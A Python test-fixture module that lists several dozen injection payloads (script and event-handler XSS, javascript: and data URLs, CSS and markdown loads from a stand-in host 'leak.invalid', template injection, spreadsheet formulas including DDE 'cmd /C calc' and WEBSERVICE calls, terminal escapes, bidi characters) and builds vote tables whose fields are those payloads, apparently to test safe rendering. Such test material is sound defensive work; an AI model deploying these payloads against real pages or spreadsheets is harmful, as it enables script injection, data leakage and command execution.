"""Texts that run or leave where a page takes them for more than text, and data full of them.

What a text does, were it taken for markup: it sets ``window.planted``, or asks a host that is
not this machine.
"""

from __future__ import annotations

import numpy as np
import pandas as pd

AWAY = "http://leak.invalid"
"""A host that no browser may be made to ask."""

RUN = "window.planted=1"

PAYLOADS = {
    "script": f"<script>{RUN}</script>",
    "script from away": f"<script src={AWAY}/a.js></script>",
    "image error": f'<img src=x onerror="{RUN}">',
    "image from away": f"<img src={AWAY}/i.png>",
    "srcset": f'<img srcset="{AWAY}/i2.png 1x">',
    "svg load": f'<svg onload="{RUN}"><circle r=9></svg>',
    "svg script": f"<svg><script>{RUN}</script></svg>",
    "svg image": f'<svg><image href="{AWAY}/s.png" width=9 height=9 /></svg>',
    "svg animate": f'<svg><a><animate attributeName=href values="javascript:{RUN}"/></a></svg>',
    "svg use": f'<svg><use href="{AWAY}/u.svg#a"/></svg>',
    "iframe": f'<iframe src="{AWAY}/f"></iframe>',
    "iframe srcdoc": f"<iframe srcdoc=\"<script>parent.{RUN}</script>\"></iframe>",
    "iframe javascript": f'<iframe src="javascript:parent.{RUN}"></iframe>',
    "object": f'<object data="{AWAY}/o"></object><embed src="{AWAY}/e">',
    "media": f'<video autoplay poster="{AWAY}/p.png"><source src=x onerror="{RUN}"></video>',
    "details": f'<details open ontoggle="{RUN}">x</details>',
    "focus": f'<input autofocus onfocus="{RUN}">',
    "body": f'<body onload="{RUN}" background="{AWAY}/b.png">',
    "refresh": f'<meta http-equiv="refresh" content="0;url={AWAY}/refresh">',
    "base": f'<base href="{AWAY}/"><img src=b.png>',
    "stylesheet": f'<link rel="stylesheet" href="{AWAY}/l.css">',
    "css import": f"<style>@import url({AWAY}/c.css);*{{background:url({AWAY}/star.png)}}</style>",
    "css attribute": f'<b style="background-image:url({AWAY}/bg.png)">x</b>',
    "css ends": f"x}}</style><style>body{{background:url({AWAY}/end.png)}}",
    "form": f'<form action="{AWAY}/form"><button formaction="javascript:{RUN}">x</button></form>',
    "link javascript": f'<a href="javascript:{RUN}">x</a>',
    "link away": f'<a href="{AWAY}/link" target=_blank ping="{AWAY}/ping">x</a>',
    # short enough to be whole in the labels of figures
    "link short": f'<a href="{AWAY}">x</a>',
    "data url": f'<a href="data:text/html,<img src={AWAY}/data.png>">x</a>',
    "markdown image": f"![x]({AWAY}/md.png) ![y][r]\n\n[r]: {AWAY}/ref.png",
    "markdown link": f"[x](javascript:{RUN}) [y](data:text/html,x) <{AWAY}/auto>",
    "markdown directives": f":red[x] :material/home: :violet-badge[![x]({AWAY}/v.png)] # *x*",
    "latex": rf"$\href{{javascript:{RUN}}}{{x}}$ $$\includegraphics{{{AWAY}/t.png}}$$ \(x\)",
    "html in latex": rf"$\htmlData{{x=y}}{{z}}$ $<img src={AWAY}/katex.png>$",
    "hover template": f'%{{x}} %{{customdata[0]}}<extra><a href="{AWAY}/h">x</a></extra><br><b>',
    "script ends": f"</script><script>{RUN}</script>",
    "title ends": f'</title></textarea></style></noscript><img src=x onerror="{RUN}">',
    "comment ends": f'--><img src=x onerror="{RUN}"><!--',
    "unclosed": f'<img src="{AWAY}/unclosed.png" alt="x',
    "json ends": f'"}}]}}; {RUN}; //\\u0022\\',
    "templates": f"{{{{constructor.constructor('{RUN}')()}}}} ${{{RUN}}} {{% raw %}} {{0}} %s",
    "attribute ends": f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    "attribute ends singly": f"' onmouseover='{RUN}' style='background:url({AWAY}/q.png)' x='",
    "entities": f"&lt;img src=x onerror={RUN}&gt; &#60;script&#62;{RUN}&#60;/script&#62;",
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    "mathml": f"<math><mtext><table><mglyph><style><!--</style><img src=x onerror={RUN}>",
    "null in a tag": f"<scr\x00ipt>{RUN}</scr\x00ipt><im\u200bg src={AWAY}/zw.png>",
    "formula": f'=HYPERLINK("{AWAY}/x","x")',
    "formula plus": "+cmd|' /C calc'!A0",
    "formula minus": f'-2+3+WEBSERVICE("{AWAY}/w")',
    "formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula after a tab": f'\t=IMAGE("{AWAY}/tab.png")',
    "formula after a return": f'\r=IMAGE("{AWAY}/return.png")',
    "terminal": f"\x1b]8;;{AWAY}/osc\x07x\x1b]8;;\x07 \x1b[2J\x1b]0;title\x07",
    "bidi": f"\u202e{RUN}\u202c \u2066<b>\u2069 \u2028{RUN}\u2029",
}  # fmt: skip


_NAMES = 8
"""Annotators, criteria and factors of a table: more are hard to see in one figure."""


def votes(names: list[str], n: int = 96) -> pd.DataFrame:
    """Return a table whose texts and names are payloads: prompts, models, people, tags, columns.

    Parameters
    ----------
    names : list of str
        Of the payloads.
    n : int
        Pairs.
    """
    random = np.random.default_rng(5)
    texts = [PAYLOADS[name] for name in names]
    rows = []
    for k in range(n):
        at = [texts[(k + shift) % len(texts)] for shift in range(3)]
        models = [texts[:_NAMES][(k + shift) % len(texts[:_NAMES])] for shift in range(2)]
        pair = {
            "prompt": f"{at[0]} {k}", "response_a": f"{at[1]} {k}",
            "response_b": f"no {k} {at[2]}", "model_a": models[0], "model_b": models[1],
            "scenario": texts[k % 2], "tags": at[1], "session": f"{at[2]} {k // 2}",
        }  # fmt: skip
        rows += [{**pair, **_label(random, j, who)} for j, who in enumerate(texts[:_NAMES])]
    columns = {text: f"{text} {at}" for at, text in enumerate(texts[:3])}
    return pd.DataFrame(rows).assign(criterion=texts[0], **columns)


def scores(names: list[str], n: int = 160) -> pd.DataFrame:
    """Return a table without texts: its columns, which become factors, are payloads."""
    random = np.random.default_rng(6)
    texts = [PAYLOADS[name] for name in names][:_NAMES]
    rows = []
    for k in range(n):
        values = {f"{text}_{side}": random.normal() for text in texts for side in "ab"}
        pair = {
            "item": f"{texts[k % len(texts)]} {k}", "scenario": texts[k // 2 % 2],
            "criterion": texts[k % 2], **values,
        }  # fmt: skip
        rows += [{**pair, **_label(random, j, who)} for j, who in enumerate(texts[:4])]
    return pd.DataFrame(rows)


def _label(random: np.random.Generator, j: int, who: str) -> dict[str, str]:
    label = "ab"[int(random.random() < 0.5)]
    return {"annotator": who, "kind": "llm" if j % 2 else "human", "label": label}
